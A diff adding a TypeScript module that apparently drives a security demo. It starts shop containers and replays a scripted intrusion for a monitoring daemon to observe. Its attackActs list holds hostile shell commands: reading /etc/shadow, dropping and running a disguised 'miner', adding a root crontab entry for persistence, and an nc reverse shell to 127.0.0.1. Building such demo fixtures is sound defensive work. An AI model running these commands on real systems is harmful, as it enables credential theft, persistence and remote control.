@@ -1,0 +1,44 @@
+import type { ShopVersion } from './shop-image.ts'
+
+/**
+ * Where the story plays: on this host, in containers that it starts, or from a recording of that. Both
+ * tell the same story to the same daemon.
+ */
+export interface Stage {
+  /** One sentence: where what is shown comes from. */
+  readonly words: string
+  /** The config of the agent that goes with it. */
+  readonly config: Readonly<Record<string, unknown>>
+  readonly piped: boolean
+  /** Starts a container of that version, with visitors who go on until the stage is closed. */
+  begin(version: ShopVersion): Promise<void>
+  attack(act: AttackAct): Promise<void>
+  close(): Promise<void>
+}
+
+export interface AttackAct {
+  readonly id: string
+  readonly title: string
+  /** What the shop's shell is made to run. */
+  readonly command: string
+}
+
+export const attackActs: readonly AttackAct[] = [
+  { id: 'shell', title: 'finds the hole, and asks who it is', command: 'id' },
+  { id: 'shadow', title: 'reads the password hashes', command: 'cat /etc/shadow' },
+  {
+    id: 'drop',
+    title: 'drops a miner and runs it',
+    command: 'cp /bin/busybox /tmp/kdevtmpfsi; chmod +x /tmp/kdevtmpfsi; /tmp/kdevtmpfsi',
+  },
+  {
+    id: 'cron',
+    title: 'wants it back after a restart',
+    command: 'echo "* * * * * root /tmp/kdevtmpfsi" >> /etc/crontab',
+  },
+  {
+    id: 'reverse',
+    title: 'calls home with a shell',
+    command: 'nc 127.0.0.1 4444 -e /bin/sh',
+  },
+]
